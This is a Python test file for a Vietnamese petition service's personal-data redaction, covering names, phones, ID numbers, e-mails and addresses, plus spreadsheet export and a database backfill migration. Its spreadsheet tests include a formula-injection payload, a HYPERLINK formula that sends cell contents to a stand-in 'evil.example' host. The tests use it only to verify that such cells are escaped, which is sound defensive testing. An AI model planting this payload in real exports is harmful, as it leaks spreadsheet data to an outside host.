"""Redaction (issue #14 findings 4-6): names, phones, ID numbers, e-mails and house addresses in any spelling
become placeholders; the petition keeps a redacted copy from intake on, and the migration backfills old rows;
spreadsheet cells that look like formulas stay text."""
from __future__ import annotations

import csv
import importlib.util
import io
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select, text

from service.domain.codes import category_label
from service.domain.documents import cells, spreadsheets
from service.domain.inbound import Actor
from service.domain.people.redaction import ADDRESS, EMAIL, ID_NUMBER, NAME, PHONE, redact, shadow
from service.models.event import Event
from service.models.matter import Matter
from service.models.petition import Petition
from tests.factories import builder

UNIT = "11914"


@pytest.mark.parametrize("phone", [
    "0912345678", "0912 345 678", "0912.345.678", "0912-345-678", "091 234 5678", "0912 345678",
    "+84 912 345 678", "+84912345678", "84912345678", "(+84)912345678", "(+84) 912-345-678", "+84 (0) 912 345 678",
    "0225.3842.123", "(0225) 3842 123", "0225 3842123",
])
def test_phones_in_any_spelling(phone):
    out = redact(f"Liên hệ giúp tôi qua {phone} nhé.")
    assert out == f"Liên hệ giúp tôi qua {PHONE} nhé.", out


@pytest.mark.parametrize("written, expected", [
    ("sđt: 0912345678", f"sđt: {PHONE}"), ("SĐT 0912.345.678", f"SĐT {PHONE}"), ("ĐT.0912345678", f"ĐT.{PHONE}"),
    ("zalo 912345678", f"zalo {PHONE}"), ("điện thoại số 0987 654 321", f"điện thoại số {PHONE}"),
    ("dien thoai 0987654321 12 nguoi ky", f"dien thoai {PHONE} 12 nguoi ky"),
])
def test_phones_after_a_cue(written, expected):
    assert redact(written) == expected


@pytest.mark.parametrize("written, expected", [
    ("CCCD 031234567890", f"CCCD {ID_NUMBER}"), ("CCCD số: 031 234 567 890", f"CCCD số: {ID_NUMBER}"),
    ("căn cước công dân 031234567890", f"căn cước công dân {ID_NUMBER}"), ("can cuoc 0312.3456.7890", f"can cuoc {ID_NUMBER}"),
    ("CMND 123456789", f"CMND {ID_NUMBER}"), ("chứng minh nhân dân số 031 234 567", f"chứng minh nhân dân số {ID_NUMBER}"),
    ("số định danh cá nhân 001099012345", f"số định danh cá nhân {ID_NUMBER}"), ("hộ chiếu C1234567", f"hộ chiếu {ID_NUMBER}"),
    ("mã 031234567890 của tôi", f"mã {ID_NUMBER} của tôi"), ("số 123456789 cấp năm 2010", f"số {ID_NUMBER} cấp năm 2010"),
])
def test_id_numbers(written, expected):
    assert redact(written) == expected


@pytest.mark.parametrize("written", ["an.nguyen@gmail.com", "AN_NGUYEN+don@example.com.vn", "to.cao-1@haiphong.gov.vn"])
def test_emails(written):
    assert redact(f"Gửi về {written}, cảm ơn.") == f"Gửi về {EMAIL}, cảm ơn."


@pytest.mark.parametrize("written", [
    "Nguyễn Văn An", "Nguyen Van An", "NGUYỄN VĂN AN", "nguyễn văn an", "nguyen van an", "NGUYEN VAN AN",
    "ông Nguyễn Văn An", "Ông Nguyen Van An", "anh Nguyễn Văn An", "chú Nguyen Van An", "bác Văn An", "ông An",
    "Anh An", "cô Văn An", "em An", "Nguyễn  Văn\tAn",
])
def test_a_petitioners_name_in_any_spelling(written):
    out = redact(f"Hôm qua {written} đã báo.", ["Nguyễn Văn An"])
    assert out == f"Hôm qua {NAME} đã báo.", out


def test_a_given_name_alone_is_a_name_only_after_an_honorific_and_with_a_capital():
    assert redact("Đường này em an toàn về nhà; an ninh tốt.", ["Nguyễn Văn An"]) == \
        "Đường này em an toàn về nhà; an ninh tốt."


@pytest.mark.parametrize("written, name", [
    ("Tôi tên là Nguyễn Văn An, sinh năm 1980.", "Nguyễn Văn An"),
    ("toi ten la nguyen van an sinh nam 1980.", "nguyen van an"),
    ("Tôi là Trần Thị Bình, trú ở đây.", "Trần Thị Bình"),
    ("Toi la Tran Thi Binh, tru o day.", "Tran Thi Binh"),
    ("Họ tên: Vũ Thị Hoa. Xin cảm ơn.", "Vũ Thị Hoa"),
    ("Ho va ten: Vu Thi Hoa. Xin cam on.", "Vu Thi Hoa"),
    ("Tên tôi là Phạm Minh Đức, làm nghề xe ôm.", "Phạm Minh Đức"),
    ("Tôi, Phạm Minh Đức, xin trình bày.", "Phạm Minh Đức"),
    ("Người tố cáo: Đỗ Văn Nam.", "Đỗ Văn Nam"),
    ("Họ tên người tố cáo: Đỗ Văn Nam.", "Đỗ Văn Nam"),
    ("Tôi tên là NGUYỄN THỊ LAN, công nhân.", "NGUYỄN THỊ LAN"),
    ("Tôi là ông Lê Văn Tám, trú ở đây.", "ông Lê Văn Tám"),
])
def test_names_introduced_in_the_text(written, name):
    out = redact(written)
    assert name not in out and NAME in out, out


@pytest.mark.parametrize("written, expected", [
    ("Người làm đơn\n(ký, ghi rõ họ tên)\nNguyễn Văn An", f"Người làm đơn\n(ký, ghi rõ họ tên)\n{NAME}"),
    ("Người viết đơn\nTrần Thị Bình", f"Người viết đơn\n{NAME}"),
    ("Tôi là chị Hoa, nhà ở ngõ 5 Trại Lẻ.", f"Tôi là {NAME}, nhà ở {ADDRESS}."),
    ("Tôi tên Lê Văn Sáu, ở xóm 3 thôn Đông.", f"Tôi tên {NAME}, ở {ADDRESS}."),
    ("Liên hệ Nguyễn Văn An – 0912345678 – an@x.vn", f"Liên hệ {NAME} – {PHONE} – {EMAIL}"),
    ("Cần gặp Trần Văn Hùng, sđt 0912345678.", f"Cần gặp {NAME}, sđt {PHONE}."),
    ("Tôi tên là Nguyễn Văn An (0912345678).", f"Tôi tên là {NAME} ({PHONE})."),
])
def test_signatures_contacts_and_where_the_named_person_lives(written, expected):
    assert redact(written) == expected


def test_an_introduced_name_is_also_hidden_where_it_comes_again():
    out = redact("Tôi tên là Nguyễn Văn An. Hàng xóm gọi tôi là anh An, có lần ông Nguyen Van An bị đánh.")
    assert "An" not in out.replace("[", " ").split() and "Nguyen" not in out, out


def test_a_lower_case_name_counts_only_where_the_writer_uses_no_capitals():
    assert redact("Tôi đã ký tên xác nhận vào biên bản của UBND xã.") == "Tôi đã ký tên xác nhận vào biên bản của UBND xã."
    assert redact("toi ten la tran van tu o xom 3") == f"toi ten la {NAME} o {ADDRESS}"


def test_tôi_là_without_a_name_is_left_alone():
    assert redact("Tôi là người dân thôn Đông, tôi là cán bộ hưu trí.") == \
        "Tôi là người dân thôn Đông, tôi là cán bộ hưu trí."


@pytest.mark.parametrize("written", [
    "nhà số 12 ngõ 64 Trại Lẻ", "số nhà 17 đường Lê Lợi", "so nha 5 ngo 3", "nhà số 5, ngách 3/12, ngõ 64",
    "Số nhà 12A/3 phố Lạch Tray",
])
def test_house_addresses_of_someone(written):
    out = redact(f"Tôi ở tại đây, {written}, mong được giúp.")
    assert out == f"Tôi ở tại đây, {ADDRESS}, mong được giúp.", out


@pytest.mark.parametrize("written, expected", [
    ("Địa chỉ: số 5, ngách 3/12, ngõ 64, phường Kênh Dương.", f"Địa chỉ: {ADDRESS}."),
    ("trú tại thôn Đông Sơn, xã An Lư. Việc như sau", f"trú tại {ADDRESS}. Việc như sau"),
    ("Nhà tôi ở 12 Trại Lẻ, bị ngập.", f"Nhà tôi ở {ADDRESS}, bị ngập."),
    ("tôi ở thôn Đông, nay trình bày", f"tôi ở {ADDRESS}, nay trình bày"),
    ("thường trú tại tổ dân phố 5, phường Hải An", f"thường trú tại {ADDRESS}"),
    ("Nhà tôi bị ngập, gần UBND", "Nhà tôi bị ngập, gần UBND"),
])
def test_addresses_after_a_cue(written, expected):
    assert redact(written) == expected


def test_the_place_a_report_is_about_stays_but_a_denunciation_loses_every_house_number():
    report = "Ổ gà trước số 12 Lạch Tray, ngõ 64 Trại Lẻ ngập; đã có 3 người ngã; Quyết định số 123/QĐ-UBND."
    assert redact(report) == report
    strict = redact(report, strict=True)
    assert "12 Lạch Tray" not in strict and "ngõ 64" not in strict, strict
    assert "3 người" in strict and "số 123/QĐ-UBND" in strict, strict


def test_amounts_dates_and_codes_are_not_personal_data():
    written = ("Ngày 12/06/2026 nộp 150.000.000 đồng, 1.500.000 đồng tiền phạt, mã đơn HP-2026-ABCD, "
               "lúc 08.30, diện tích 120 m2, năm 2019.")
    assert redact(written) == written
    assert redact(written, strict=True, public=True) == written


def test_public_answers_hide_anyone_named_but_not_offices_or_streets():
    out = redact("anh Nguyen Van Binh so nha 5 ngo 3, sdt 0912 345 678 báo: bà Lan bán hàng lấn đường Trần Phú; "
                 "ông Chủ tịch UBND xã chưa trả lời; Trần Văn Cường chứng kiến.", public=True)
    assert out == (f"{NAME} {ADDRESS}, sdt {PHONE} báo: {NAME} bán hàng lấn đường Trần Phú; "
                   f"ông Chủ tịch UBND xã chưa trả lời; {NAME} chứng kiến."), out


def test_the_accused_stays_for_those_who_handle_a_denunciation():
    out = redact("Tôi tên là Lê Thị Cúc, tố cáo ông Trần Văn Bình, cán bộ địa chính.", ["Lê Thị Cúc"], strict=True)
    assert out == f"Tôi tên là {NAME}, tố cáo ông Trần Văn Bình, cán bộ địa chính."


def test_zero_width_characters_do_not_hide_a_name():
    assert "Nguy" not in redact("Tôi tên là Nguy\u200bễn Văn\u2060 An.")


def test_a_persons_own_address_is_hidden_wherever_it_is_written():
    out = redact("Tôi sống ở Số 3, ngõ 12 Hà Sen từ lâu.", addresses=["Số 3 ngõ 12 Hà Sen"])
    assert "Hà Sen" not in out and ADDRESS in out, out


def test_the_shadow_keeps_every_index():
    written = "Đặng Thị Ánh Tuyết ĐT 0912 — İstanbul ǅ"
    assert len(shadow(written)) == len(written)


def test_redacting_twice_changes_nothing():
    once = redact("Tôi tên là Nguyễn Văn An, sđt 0912345678, nhà số 5 ngõ 3, CCCD 031234567890.", strict=True)
    assert redact(once, strict=True) == once and redact(once, public=True) == once


# --- spreadsheet cells ---------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_cells_that_look_like_formulas_get_a_quote(value):
    out = io.StringIO()
    csv.writer(out).writerow([cells.csv_cell(value), cells.csv_cell("Bình thường")])
    first, second = next(csv.reader(io.StringIO(out.getvalue())))
    assert first == "'" + value and second == "Bình thường"
    assert cells.from_csv_cell(first) == value


def _report_with_title(title: str) -> dict:
    return {"unit": {"name": "Đặc khu Cát Hải", "code": UNIT, "city_wide": False},
            "period": {"label": "Tháng 11/2026", "code": "thang", "from": "2026-11-01", "to": "2026-11-30"},
            "generated_at": "2026-12-01T01:00:00+00:00", "as_of": "2026-12-01T00:00:00+00:00",
            "title": title}


def test_xlsx_cells_that_look_like_formulas_are_text(monkeypatch):
    table = spreadsheets.Table("flagged", "Vụ việc", "Vụ việc", ["STT", "Tên vụ việc"],
                               [[i, value] for i, value in enumerate(FORMULAS, 1)], total=False)
    monkeypatch.setattr(spreadsheets, "tables", lambda report: [table])
    book = openpyxl.load_workbook(io.BytesIO(spreadsheets.workbook(_report_with_title("x"))))
    sheet = book.active
    values = [row[1] for row in sheet.iter_rows(min_row=spreadsheets.HEADER_ROW + 1)]
    assert [c.value for c in values] == FORMULAS
    assert all(c.data_type == "s" and c.quotePrefix for c in values)


# --- the stored copy and the migration's backfill ------------------------------------------------------------

_submit = builder(unit=UNIT, category="dat_dai", address="Số 3 ngõ 12", consent=True, commit=True)


def neutral(p: Petition) -> str:
    return f"Tố cáo – {category_label(p.category)} – {p.unit.name}"


SECRET = "Tôi tên là Nguyễn Văn An, điện thoại 0912.345.678, CCCD 031234567890, nhà số 12 ngõ 64 Trại Lẻ. " \
         "Tôi tố cáo ông Trần Văn Bình, cán bộ địa chính, nhận tiền để làm sổ đỏ."


def test_intake_stores_the_redacted_text_and_searches_a_denunciation_by_it(session):
    p = _submit(session, SECRET, kind="to_cao", title="Đơn của anh Nguyen Van An")
    for stored in (p.content_redacted, p.title_redacted, p.content_folded):
        for secret in ("Nguyễn Văn An", "Nguyen Van An", "nguyen van an", "0912", "031234567890", "ngõ 64", "ngo 64"):
            assert secret not in stored, (secret, stored)
    assert "Trần Văn Bình" in p.content_redacted and "tran van binh" in p.content_folded
    assert p.content == SECRET  # the full text stays for those the law names
    matter = session.get(Matter, p.matter_id)
    assert matter.title == neutral(p)
    opened = session.scalar(select(Event).where(Event.petition_id == p.id, Event.kind == "matter_opened"))
    assert "nguyen van an" not in str(opened.data) and "0912" not in str(opened.data)


def test_other_kinds_search_their_full_text_and_title_their_matter_from_the_redacted_one(session):
    p = _submit(session, "Ông Nguyễn Văn An, sđt 0912345678, báo cống ngõ 5 Lạch Tray tắc. Nước tràn ra đường.",
                kind="phan_anh")
    assert "nguyen van an" in p.content_folded  # only a denunciation hides its text from search
    title = session.get(Matter, p.matter_id).title
    assert "Nguyễn" not in title and "0912" not in title and "Lạch Tray" in title, title


def test_becoming_a_denunciation_redacts_search_and_retitles_the_matter(session):
    from service.domain.routing import operations as routing

    p = _submit(session, SECRET.replace("Tôi tố cáo", "Tôi phản ánh"), kind="phan_anh")
    routing.reroute(session, p, Actor(label="Cán bộ", user_id=None), kind="to_cao", reason="Là đơn tố cáo")
    session.commit()
    assert "nguyen van an" not in p.content_folded and "Trại Lẻ" not in p.content_redacted
    assert session.get(Matter, p.matter_id).title.startswith("Tố cáo – ")


def test_the_migration_backfills_existing_rows(session):
    p = _submit(session, SECRET, kind="to_cao")
    matter_id = p.matter_id
    # as a row stored before this revision looked
    session.execute(text("UPDATE petitions SET title_redacted = NULL, content_redacted = NULL, "
                         "content_folded = :f WHERE id = :id"), {"f": "toi ten la nguyen van an 0912", "id": p.id})
    session.execute(text("UPDATE matters SET title = :t WHERE id = :id"), {"t": "Tôi tên là Nguyễn Văn An",
                                                                           "id": matter_id})
    session.commit()
    path = next(Path("migrations/versions").glob("*e14red000001*.py"))
    spec = importlib.util.spec_from_file_location("e14red000001", path)
    migration = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(migration)
    migration._backfill(session.connection())
    session.commit()
    session.expire_all()
    p = session.get(Petition, p.id)
    assert "[họ tên]" in p.content_redacted and "Nguyễn Văn An" not in p.content_redacted
    assert "nguyen" not in p.content_folded and "0912" not in p.content_folded
    assert session.get(Matter, matter_id).title == neutral(p)


@pytest.mark.parametrize("unit", ["1 ", "0", "1.", "số 1 ", "nhà số 1, ", "0912345678 ", "Tôi tên là ", "ông Nguyễn ",
                                  "a@b.c", "(+84", "Địa chỉ: "])
def test_hostile_text_is_redacted_in_linear_time(unit):
    import time

    from service.domain.intake.validation import MAX_CONTENT_CHARS

    hostile = (unit * MAX_CONTENT_CHARS)[:MAX_CONTENT_CHARS]
    started = time.perf_counter()
    redact(hostile, ["Nguyễn Văn An"], strict=True, public=True)
    assert time.perf_counter() - started < 2.0
